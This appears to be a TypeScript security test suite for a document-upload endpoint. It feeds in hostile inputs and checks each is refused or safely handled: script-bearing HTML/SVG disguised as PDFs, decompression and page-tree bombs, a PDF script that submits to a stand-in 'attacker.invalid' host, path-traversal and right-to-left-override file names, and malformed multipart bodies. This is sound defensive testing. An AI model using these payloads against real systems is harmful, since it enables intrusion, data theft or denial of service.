import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import { Pool } from 'pg';
import { scanPng } from '../integration/fixtures/pdfs';
import { startApp, type TestApp } from '../integration/harness';
import { deflateBomb, manyPages, pageCountLie, pageTreeBomb, withJavaScript } from './hostile-pdfs';
import { describeResponse, probe } from './scoreboard';
import { buildWorld, call, markedPdf, type World } from './world';

/**
 * Hostile uploads through POST /bucket: files that are not PDFs, PDFs built to exhaust a reader,
 * PDFs with scripts, names that try to leave the storage folder, sizes over the limit and bodies
 * that stop half-way. Each is refused with a clear 4xx, or accepted and then ends `completed` or
 * `error` in bounded time; nothing is left behind in the temp folder or the store.
 */
const sql = new Pool({ connectionString: process.env.DATABASE_URL, max: 2 });
sql.on('error', () => undefined);
afterAll(() => sql.end());

const STORAGE = process.env.STORAGE_DIR!;
const TMP = path.join(STORAGE, '.tmp');
const MB = 1024 * 1024;
/** How long an accepted hostile file may take to end completed or error. */
const SETTLE_MS = 90_000;

function filesUnder(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((d) => d.isFile())
    .map((d) => path.join(d.parentPath, d.name));
}

describe('hostile uploads', () => {
  let t: TestApp;
  let base: string;
  let w: World;
  /** Sparks to upload into, so that the ten-document limit of one is never what refuses a file. */
  const sparks: string[] = [];
  let next = 0;

  beforeAll(async () => {
    t = await startApp();
    base = await t.url();
    w = await buildWorld(t, 'upload');
    for (let i = 0; i < 3; i++) {
      const res = await call(base, {
        method: 'POST',
        path: '/api/v1/sparks',
        token: w.user.access,
        json: { name: `Uploads ${i}` },
      });
      sparks.push((res.json as { data: { _id: string } }).data._id);
    }
  });
  afterAll(() => t.close());

  const sparkForNext = () => sparks[Math.floor(next++ / 8) % sparks.length];

  function upload(file: Buffer, fileName: string, fields: Record<string, string> = {}) {
    return call(base, {
      method: 'POST',
      path: '/api/v1/bucket',
      token: w.user.access,
      form: { fields: { sparkId: sparkForNext(), ...fields }, file, fileName },
    });
  }

  async function documentIds(): Promise<string[]> {
    const r = await sql.query<{ id: string }>('SELECT id FROM documents WHERE user_id = $1', [w.userId]);
    return r.rows.map((row) => row.id);
  }

  /** Waits for every accepted document to end; answers their final rows. */
  async function settle(ids: string[]): Promise<Map<string, { status: string; error: string | null; name: string }>> {
    const deadline = Date.now() + SETTLE_MS;
    for (;;) {
      const r = await sql.query<{ id: string; status: string; error: string | null; name: string }>(
        'SELECT id, status, error, name FROM documents WHERE id = ANY($1)',
        [ids],
      );
      const rows = new Map(r.rows.map((row) => [row.id, row]));
      const open = r.rows.filter((row) => row.status === 'pending' || row.status === 'inProgress');
      if (open.length === 0 || Date.now() > deadline) return rows;
      await new Promise((resolve) => setTimeout(resolve, 250));
    }
  }

  /** A raw request to /bucket, for bodies no client library would send. */
  function rawUpload(opts: { headers: Record<string, string | number>; chunks: Buffer[]; abortAfter?: boolean }) {
    return new Promise<{ status: number; text: string; sawTemp?: boolean }>((resolve, reject) => {
      const url = new URL('/api/v1/bucket', base);
      const req = http.request(
        {
          host: url.hostname,
          port: url.port,
          path: url.pathname,
          method: 'POST',
          headers: { authorization: `Bearer ${w.user.access}`, ...opts.headers },
        },
        (res) => {
          let text = '';
          res.on('data', (c: Buffer) => (text += c.toString()));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
          res.on('error', () => resolve({ status: res.statusCode ?? 0, text }));
        },
      );
      req.on('error', (err) => (opts.abortAfter ? resolve({ status: 0, text: 'aborted' }) : reject(err)));
      for (const chunk of opts.chunks) req.write(chunk);
      if (opts.abortAfter) {
        setTimeout(() => {
          // Whether the api was writing the file when the client left: what it must then clean up.
          const sawTemp = filesUnder(TMP).length > 0;
          req.destroy();
          resolve({ status: 0, text: 'the client left', sawTemp });
        }, 500);
      } else {
        req.end();
      }
    });
  }

  const boundary = () => `----sparks-hostile-${randomUUID()}`;
  const part = (b: string, name: string, value: string) =>
    Buffer.from(`--${b}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
  const filePart = (b: string, fileName: string) =>
    Buffer.from(
      `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/pdf\r\n\r\n`,
    );

  probe('files that are not PDFs, whatever their name, are refused with 415 (or 400 when empty)', async (tally) => {
    const before = await documentIds();
    const fakes: Array<[string, Buffer, string]> = [
      ['a PNG named .pdf', scanPng(), 'scan.pdf'],
      [
        'an HTML page with a script named .pdf',
        Buffer.from('<html><script>alert(document.cookie)</script></html>'),
        'page.pdf',
      ],
      [
        'an SVG with a script named .pdf',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        'image.pdf',
      ],
      ['a ZIP named .pdf', Buffer.from([0x50, 0x4b, 0x03, 0x04, ...Buffer.alloc(200)]), 'archive.pdf'],
      ['a Windows executable named .pdf', Buffer.from([0x4d, 0x5a, 0x90, 0x00, ...Buffer.alloc(200)]), 'setup.pdf'],
      ['an ELF binary named .pdf', Buffer.from([0x7f, 0x45, 0x4c, 0x46, ...Buffer.alloc(200)]), 'tool.pdf'],
      ['text that mentions %PDF- later', Buffer.from(`hello\n%PDF-1.7\n${'x'.repeat(100)}`), 'late.pdf'],
      ['four bytes: %PDF', Buffer.from('%PDF'), 'short.pdf'],
      ['a UTF-16 text named .pdf', Buffer.from('\ufeff%PDF-1.7', 'utf16le'), 'utf16.pdf'],
    ];
    for (const [label, bytes, name] of fakes) tally.status(label, await upload(bytes, name), [415]);
    tally.status('an empty file', await upload(Buffer.alloc(0), 'empty.pdf'), [400]);
    const after = await documentIds();
    tally.check(
      'no document was created for any of them',
      after.length === before.length,
      `${after.length - before.length} were`,
    );
  });

  probe(
    'PDFs built to exhaust a reader: each is accepted or refused, and every accepted one ends completed or error',
    async (tally) => {
      const marker = `bomb${randomUUID().slice(0, 6)}`;
      const files: Array<[string, Buffer]> = [
        ['a page tree of 10⁹ pages by reference', pageTreeBomb(marker)],
        ['one page in a tree that claims 10⁹', pageCountLie(marker)],
        ['2,001 real pages (one over the limit)', manyPages(2001, marker)],
        ['a content stream that inflates to 64 MB', deflateBomb(64, marker)],
        [
          'a PDF header followed by HTML (polyglot)',
          Buffer.from(`%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n`),
        ],
        ['a PDF cut off after its header', Buffer.concat([pageCountLie(marker).subarray(0, 40)])],
      ];
      const accepted: Array<[string, string]> = [];
      for (const [label, bytes] of files) {
        const res = await upload(bytes, `${label}.pdf`);
        if (tally.status(`${label}: answered`, res, [201, 400, 413, 415]) && res.status === 201) {
          accepted.push([label, (res.json as { data: { _id: string } }).data._id]);
        }
      }
      const rows = await settle(accepted.map(([, id]) => id));
      for (const [label, id] of accepted) {
        const row = rows.get(id);
        tally.check(
          `${label}: ends completed or error within ${SETTLE_MS / 1000} s`,
          row?.status === 'completed' || row?.status === 'error',
          JSON.stringify(row),
        );
      }
      const tooMany = accepted.find(([label]) => label.startsWith('2,001'));
      if (tooMany) {
        const row = rows.get(tooMany[1]);
        tally.check(
          '2,001 pages: refused as too many pages',
          row?.status === 'error' && row.error === 'TOO_MANY_PAGES',
          JSON.stringify(row),
        );
      }
    },
    180_000,
  );

  probe(
    'a PDF with JavaScript: only its text is kept, the script is neither stored as text nor run',
    async (tally) => {
      const marker = `script${randomUUID().slice(0, 6)}`;
      const res = await upload(
        withJavaScript(
          `Opening hours ${marker}`,
          `app.alert('${marker}-js'); this.submitForm('http://attacker.invalid/')`,
        ),
        'script.pdf',
      );
      if (!tally.status('accepted as a PDF', res, [201])) return;
      const id = (res.json as { data: { _id: string; status: string } }).data._id;
      const row = (await settle([id])).get(id);
      tally.check('read to the end', row?.status === 'completed', JSON.stringify(row));
      const chunks = await sql.query<{ content: string }>(
        'SELECT content FROM document_chunks WHERE document_id = $1',
        [id],
      );
      const text = chunks.rows.map((c) => c.content).join('\n');
      tally.check('its text is kept', text.includes(marker), text.slice(0, 200));
      tally.check(
        'its script is not',
        !text.includes(`${marker}-js`) && !text.includes('submitForm') && !text.includes('javascript:'),
        text.slice(0, 200),
      );
    },
    120_000,
  );

  probe('file names that try to leave the store are kept as display text only', async (tally) => {
    const tag = randomUUID().slice(0, 8);
    const outside = [
      path.join(os.tmpdir(), `evil-${tag}.pdf`),
      path.join(path.dirname(STORAGE), `evil-${tag}.pdf`),
      `/evil-${tag}.pdf`,
    ];
    const names: Array<[string, string, Record<string, string>]> = [
      ['../ in the file name', `../../../../../../${os.tmpdir()}/evil-${tag}.pdf`, {}],
      ['..\\ in the file name', `..\\..\\..\\evil-${tag}.pdf`, {}],
      ['an absolute path in the name field', 'x.pdf', { name: `/etc/evil-${tag}.pdf` }],
      ['../ in the name field', 'x.pdf', { name: `../../evil-${tag}.pdf` }],
      ['URL-encoded ../ in the name', 'x.pdf', { name: `..%2F..%2Fevil-${tag}.pdf` }],
      ['a name of dots', '....pdf', { name: '..' }],
      ['a name with a right-to-left override', 'x.pdf', { name: `invoice\u202Efdp.exe-${tag}` }],
      ['a name of 1,000 characters', 'x.pdf', { name: `${'n'.repeat(996)}.pdf` }],
    ];
    let i = 0;
    for (const [label, fileName, fields] of names) {
      i += 1;
      // A different file each time: the same bytes again in a Spark answer the first document.
      const res = await upload(await markedPdf(`${tag}${i}`), fileName, fields);
      if (!tally.status(`${label}: accepted`, res, [201])) continue;
      const doc = (res.json as { data: { _id: string; name: string } }).data;
      const [row] = (
        await sql.query<{ storage_key: string }>('SELECT storage_key FROM documents WHERE id = $1', [doc._id])
      ).rows;
      tally.check(
        `${label}: stored under a generated key`,
        /^documents\/[0-9a-f-]{36}\.pdf$/.test(row?.storage_key ?? ''),
        row?.storage_key ?? '(no row)',
      );
      tally.check(
        `${label}: the shown name has no path in it`,
        !/[/\\]/.test(doc.name) &&
          !doc.name.startsWith('.') &&
          !/[\u202a-\u202e\u2066-\u2069]/.test(doc.name) &&
          doc.name.length <= 200,
        JSON.stringify(doc.name),
      );
    }
    for (const file of outside) tally.check(`nothing written at ${file}`, !fs.existsSync(file), 'a file is there');
    const refused: Array<[string, string, Record<string, string>]> = [
      ['a NUL in the name field', 'x.pdf', { name: `evil\u0000.pdf` }],
      ['a name field of 5,000 characters', 'x.pdf', { name: 'n'.repeat(5000) }],
    ];
    for (const [label, fileName, fields] of refused)
      tally.status(label, await upload(await markedPdf(`${tag}${label}`), fileName, fields), [400]);
  });

  probe('sizes over the limit and bodies that stop half-way: 4xx, and nothing left behind', async (tally) => {
    const before = await documentIds();
    const big = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(10 * MB + 1 - 9, 0x20)]);
    tally.status('10 MB and one byte', await upload(big, 'big.pdf'), [413]);

    const b1 = boundary();
    const declared = await rawUpload({
      headers: { 'content-type': `multipart/form-data; boundary=${b1}`, 'content-length': 50 * MB },
      chunks: [part(b1, 'sparkId', sparkForNext()), filePart(b1, 'huge.pdf'), Buffer.from('%PDF-1.7\n')],
    }).catch((err: Error) => ({ status: 0, text: err.message }));
    tally.check(
      'a declared 50 MB body is refused unread with 413',
      declared.status === 413,
      JSON.stringify(declared).slice(0, 200),
    );

    const b2 = boundary();
    const pdf = await markedPdf('truncated');
    const truncated = await rawUpload({
      headers: { 'content-type': `multipart/form-data; boundary=${b2}` },
      chunks: [part(b2, 'sparkId', sparkForNext()), filePart(b2, 'cut.pdf'), pdf.subarray(0, 300)],
    });
    tally.check(
      'a multipart body without its closing boundary: 400',
      truncated.status === 400,
      JSON.stringify(truncated).slice(0, 200),
    );

    const noBoundary = await rawUpload({ headers: { 'content-type': 'multipart/form-data' }, chunks: [pdf] });
    tally.check(
      'multipart without a boundary: 400',
      noBoundary.status === 400,
      JSON.stringify(noBoundary).slice(0, 200),
    );
    const rawPdf = await rawUpload({ headers: { 'content-type': 'application/pdf' }, chunks: [pdf] });
    tally.check('a PDF sent as the whole body: 400', rawPdf.status === 400, JSON.stringify(rawPdf).slice(0, 200));

    const b3 = boundary();
    const headerBomb = await rawUpload({
      headers: { 'content-type': `multipart/form-data; boundary=${b3}` },
      chunks: [
        ...Array.from({ length: 40 }, (_, i) => part(b3, `field${i}`, 'v')),
        part(b3, 'sparkId', sparkForNext()),
        filePart(b3, 'many.pdf'),
        pdf,
        Buffer.from(`\r\n--${b3}--\r\n`),
      ],
    });
    tally.check(
      '40 extra form fields: a clear answer, no 5xx',
      headerBomb.status < 500,
      JSON.stringify(headerBomb).slice(0, 200),
    );

    const b4 = boundary();
    const gone = await rawUpload({
      headers: { 'content-type': `multipart/form-data; boundary=${b4}`, 'content-length': 5 * MB },
      chunks: [part(b4, 'sparkId', sparkForNext()), filePart(b4, 'gone.pdf'), pdf, Buffer.alloc(MB, 0x20)],
      abortAfter: true,
    });
    tally.check(
      'a client that hangs up half-way, while its file is being written',
      gone.sawTemp === true,
      JSON.stringify(gone),
    );

    // What a refused or abandoned upload leaves: no temp file, no document.
    const deadline = Date.now() + 5000;
    while (filesUnder(TMP).length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
    tally.check('no temp file is left', filesUnder(TMP).length === 0, filesUnder(TMP).join(', '));
    const created = (await documentIds()).filter((id) => !before.includes(id));
    tally.check('no document was created', created.length === 0, created.join(', '));
  });

  probe('the store holds no file without its document', async (tally) => {
    const keys = new Set(
      (await sql.query<{ storage_key: string }>('SELECT storage_key FROM documents')).rows.map((r) => r.storage_key),
    );
    const stored = filesUnder(path.join(STORAGE, 'documents'));
    for (const file of stored) {
      const key = path.relative(STORAGE, file).split(path.sep).join('/');
      tally.check(`${key} belongs to a document`, keys.has(key), 'orphan file');
    }
    tally.check('the store was looked at', stored.length > 0, 'no stored file at all');
    tally.check('no temp file is left', filesUnder(TMP).length === 0, filesUnder(TMP).join(', '));
    const res = await call(base, { method: 'GET', path: '/api/v1/account/profile', token: w.user.access });
    tally.check('the api still answers', res.status === 200, describeResponse(res));
  });
});
